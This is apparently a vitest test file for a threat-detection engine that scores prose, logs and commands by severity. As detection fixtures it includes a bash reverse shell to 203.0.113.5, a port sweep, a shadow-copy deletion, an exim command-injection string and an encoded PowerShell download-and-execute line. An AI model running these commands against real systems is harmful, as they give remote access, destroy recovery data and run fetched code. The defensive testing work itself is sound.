/** The learnt judge of words: what it reads, what it finds where no rule speaks, and what it must not lower. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { EnginePack } from '../../../server/engine/engine.ts';
import { leastOf } from '../../../server/engine/threat/analyze.ts';
import { loadKnowledge } from '../../../server/engine/threat/knowledge.ts';
import { Concepts, loadConcepts } from '../../../server/engine/threat/text/concepts.ts';
import { featureGroups } from '../../../server/engine/threat/text/features.ts';
import { isJudged, isOnlyWords, readLearnt, writeLearnt } from '../../../server/engine/threat/text/learnt.ts';
import { guardPack, knowledge, never, openThreatEngine, readEvents } from '../../support/threat-engine.ts';

const engine = await openThreatEngine();
const analyze = (text: string) => engine.methods.analyze({ text }, never);

describe('weights', () => {
  test('survive writing and reading', () => {
    const weights = new Float64Array(256).fill(0.5);
    const judge = readLearnt(writeLearnt(weights, { bias: -1, threshold: 0.75 }));
    expect(judge.threshold).toBe(0.75);
    expect(judge.probability('one two three')).toBeGreaterThan(judge.probability(''));
    expect(judge.probability('')).toBeLessThan(judge.probability('one'));
  });

  test.each([
    ['empty', new Uint8Array()],
    ['cut off', writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }).subarray(0, 19)],
    [
      'cut off within a gap',
      Uint8Array.from([...writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }), 200]),
    ],
    [
      'beyond their buckets',
      Uint8Array.from([...writeLearnt(new Float64Array(256), { bias: 0, threshold: 1 }), 255, 127, 1]),
    ],
    ['of another kind', new Uint8Array(276)],
    ['without figures', writeLearnt(new Float64Array(256), { bias: Number.NaN, threshold: 1 })],
  ])('%s are refused', (_, bytes) => {
    expect(() => readLearnt(bytes)).toThrow('not of the expected form');
  });
});

/** `LKTJ`: a byte for each of 256 buckets, as packs had it before only known ones were kept. */
function olderBytes(): Uint8Array {
  const bytes = new Uint8Array(20 + 256).map((_, at) => (at < 20 ? 0 : at - 20));
  const view = new DataView(bytes.buffer);
  view.setUint32(0, 0x4a_54_4b_4c, true);
  view.setUint32(4, 8, true);
  [1, 0, 0.5].forEach((value, at) => {
    view.setFloat32(8 + 4 * at, value, true);
  });
  return bytes;
}

test('weights of packs before marks are read by words, meanings and findings alone', () => {
  const bytes = writeLearnt(new Float64Array(256).fill(0.5), { bias: -1, threshold: 0.5 });
  const earlier = Uint8Array.from(bytes);
  new DataView(earlier.buffer).setUint32(0, 0x4b_54_4b_4c, true);
  // Of an empty text that no rule found there is one feature, whose weight was .15 then.
  expect(readLearnt(earlier).probability('')).toBeCloseTo(1 / (1 + Math.exp(1 - 0.15 * 0.5)), 5);
});

test('buckets that round to nothing are left out, and those far apart are found again', () => {
  const weights = new Float64Array(2 ** 20);
  const text = 'everything of one kind';
  const sparse = () => writeLearnt(weights, { bias: 0, threshold: 0.5 });
  expect(sparse().length).toBe(20);
  expect(readLearnt(sparse()).probability(text)).toBe(0.5);
  const features = featureGroups(text, [], { bits: 20, concepts: new Concepts() }).flatMap((group) => [
    ...group.features,
  ]);
  for (const feature of features) weights[feature] = -2;
  expect(sparse().length).toBeLessThan(20 + 5 * features.length);
  const same = writeLearnt(new Float64Array(2 ** 20).fill(-2), { bias: 0, threshold: 0.5 });
  expect(readLearnt(sparse()).probability(text)).toBe(readLearnt(same).probability(text));
});

test('older weights of a pack without meanings are read without the starter’s', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'lokal-guard-'));
  try {
    const bytes = olderBytes();
    writeFileSync(join(folder, 'learnt.bin'), bytes);
    const { learnt } = await loadKnowledge({
      folder,
      starter: { folder: guardPack, manifest: {} as EnginePack['manifest'] },
    });
    const text = 'at midnight a former employee downloaded all customer data';
    expect(learnt.probability(text)).toBe(readLearnt(bytes).probability(text));
    const meanings = await loadConcepts({ folder: guardPack });
    expect(learnt.probability(text)).not.toBe(readLearnt(bytes, meanings).probability(text));
  } finally {
    rmSync(folder, { recursive: true });
  }
});

describe('prose', () => {
  test.each([
    'sticky note: the payroll mailbox was opened from Romania with a replayed session cookie, tokens not revoked',
    'ransom note in every folder of the HR drive and users cannot open their documents',
    '凌晨三点有人用离职员工的账号下载了全部客户资料',
  ])('an attack that is told is found: %s', async (text) => {
    expect(['medium', 'high', 'critical']).toContain((await analyze(text)).severity);
  });

  test.each([
    'printer on floor 3 shows an error again, toner replaced by the vendor',
    'weekly backup of the HR drive finished in 40 minutes, restore test on Friday',
    'pencetak tingkat 3 sudah dibaiki, terima kasih',
  ])('everyday work is not: %s', async (text) => {
    expect(['informational', 'low']).toContain((await analyze(text)).severity);
  });
});

test('a word of lessons hides no lure', async () => {
  const lure =
    'Join our webinar: open the device login page, enter the code QX7K-2PLM and sign in with your staff account at once, the code dies in ten minutes.';
  expect(knowledge.signatures.teaches(lure)).toBe(true);
  expect((await analyze(lure)).severity).toBe('medium');
  expect((await analyze('Join our webinar on passwords on Thursday at ten.')).severity).toBe('informational');
});

test('a finding by words alone tells its source and its probability', async () => {
  const text =
    'someone replayed a session cookie of Lisa with another browser and reads the mailbox of the accountant';
  const { findings } = await analyze(text);
  const learnt = findings.find(({ source }) => source === 'learnt');
  expect(learnt).toMatchObject({ ruleId: 'learnt-words', level: 'medium', ttps: [] });
  expect(learnt?.confidence).toBeCloseTo(knowledge.learnt.probability(text, []), 2);
});

test('everyday words around a command do not hide it', async () => {
  const padding =
    'weekly backup of the HR drive finished in 40 minutes, printer on floor 3 repaired. '.repeat(4);
  expect(['high', 'critical']).toContain(
    (await analyze(`${padding}vssadmin delete shadows /all /quiet`)).severity,
  );
});

test('a port that is waited for is no stream to a stranger, a sweep of ports is a finding', async () => {
  const severity = async (text: string) => (await analyze(text)).severity;
  const wait =
    "bash -c 'until (echo > /dev/tcp/postgres/5432) 2>/dev/null; do sleep 1; done; exec ./migrate up'";
  expect(await severity(wait)).toBe('informational');
  expect(['high', 'critical']).toContain(
    await severity('for i in $(seq 1 254); do (echo > /dev/tcp/10.0.4.$i/445) && echo $i; done'),
  );
  expect(['high', 'critical']).toContain(await severity('bash -i >& /dev/tcp/203.0.113.5/443 0>&1'));
});

test('a trail that is stopped is believed, unless everyday words all over the call say why', async () => {
  const stop = (more: object) =>
    JSON.stringify({ eventName: 'StopLogging', requestParameters: { name: 'main' }, ...more });
  expect((await analyze(stop({ sourceIPAddress: '203.0.113.9' }))).severity).toBe('critical');
  expect(
    (
      await analyze(
        stop({
          userAgent: 'HashiCorp Terraform/1.8',
          tags: { env: 'sandbox', purpose: 'ephemeral test account teardown' },
          next: 'DeleteTrail, DeleteBucket sandbox-trail-logs, CloseAccount',
        }),
      )
    ).severity,
  ).toBe('low');
});

test('less is enough in sentences and events, more in a text that explains', () => {
  const least = (text: string, isTaught = false) =>
    leastOf(text, { isTaught, events: readEvents(text) }, 0.5);
  const [prose, event] = [
    'somebody has read the mail of our director',
    '{"user":"anna","count":3,"hour":"02:10"}',
  ];
  expect(least(event)).toBeLessThan(least(prose));
  expect(least(prose)).toBeLessThan(least('net user'));
  expect(least('net user')).toBe(0.5);
  expect(least(prose, true)).toBeGreaterThan(0.5);
});

test.each([
  'exim[33]: rejected RCPT ${run{\\x2fbin\\x2fsh\\t-c\\x22id\\x22}}@localhost from [203.0.113.11]',
  '%ASA-4-733100: [Scanning] drop rate-1 exceeded. Current burst rate is 912 per second from 203.0.113.9',
  'Im Labor verschlüsseln drei Rechner Dateien, ein Erpresserschreiben liegt auf jedem Desktop.',
  'Cette nuit le serveur a été chiffré, une note de rançon est affichée sur tous les postes.',
  'Esta noche cifraron los servidores y dejaron una nota de rescate en cada equipo.',
])('attacks of mail servers and scans, and those told in other languages, are found: %s', async (text) => {
  expect(['medium', 'high', 'critical']).toContain((await analyze(text)).severity);
});

test.each([
  'Guten Tag Herr Braun, anbei die Rechnung 4471 über 1.190 € für die Dachreparatur, zahlbar binnen 14 Tagen.',
  'Recipe: fry onions slowly, add ginger, then the chicken. Simmer for 40 minutes. Salt at the very end.',
  'Taufan Fred kini mempunyai kelajuan angin 105 batu sejam dan bergerak ke arah barat laut.',
  'Hello, I got a strange mail asking me to update my mailbox and did not click. Regards, ward 3',
])('everyday texts are none: %s', async (text) => {
  expect(['informational', 'low']).toContain((await analyze(text)).severity);
});

test('a long script of everyday work tells of no attack, what it runs stays one', async () => {
  const script = `#!/usr/bin/env bash
# weekly: looks for webshells on our own web roots, cron Sunday 04:00
# maintained by the web team, rules from the internal git repository
set -euo pipefail
RULES=/opt/yara-rules/webshells.yar
OUT=/root/weekly-$(date +%F).txt
ROOTS=(/var/www/html /var/www/shop /srv/intranet)

: > "$OUT"
for r in "\${ROOTS[@]}"; do
  # strings such as eval($_POST[...]) and base64_decode are what the rules search for
  yara -r -w "$RULES" "$r" >> "$OUT" 2>/dev/null || true
done

if [ -s "$OUT" ]; then
  mail -s "yara: $(wc -l < "$OUT") hits, please review" webteam@radio.example < "$OUT"
fi
find /root -name 'weekly-*.txt' -mtime +180 -delete`;
  const isRaised = async (text: string) =>
    ['medium', 'high', 'critical'].includes((await analyze(text)).severity);
  expect(readEvents(script).length).toBeGreaterThan(12);
  expect(await isRaised(script)).toBe(false);
  expect(await isRaised(`${script}\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1`)).toBe(true);
});

test('logs and what was stopped are left to rules; of files and requests the words only add', () => {
  const judged = (text: string) => isJudged(text, readEvents(text));
  const onlyWords = (text: string) => isOnlyWords(readEvents(text));
  expect(judged('user cannot print')).toBe(true);
  expect(judged('product=EDR event=detection name="Trojan" action=quarantined status=resolved')).toBe(false);
  // One line that was stopped leaves the others to be read.
  expect(
    judged(
      'product=EDR event=detection name="Trojan" action=quarantined status=resolved\nuser reports a window that types by itself',
    ),
  ).toBe(true);
  expect(judged('one line of words\n'.repeat(50))).toBe(false);
  expect(judged('word '.repeat(2000))).toBe(false);
  expect(onlyWords('user cannot print')).toBe(true);
  expect(onlyWords('GET /a?b=c HTTP/1.1\nHost: example.com')).toBe(false);
  expect(onlyWords('one line of words\n'.repeat(20))).toBe(false);
});

test('a command in base64 is judged by what it runs', () => {
  const encoded = (command: string) =>
    `powershell -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`;
  const of = (command: string) => knowledge.learnt.probability(encoded(command));
  expect(of('Get-Service | Format-Table')).toBeLessThan(
    of("IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/a.ps1')"),
  );
});
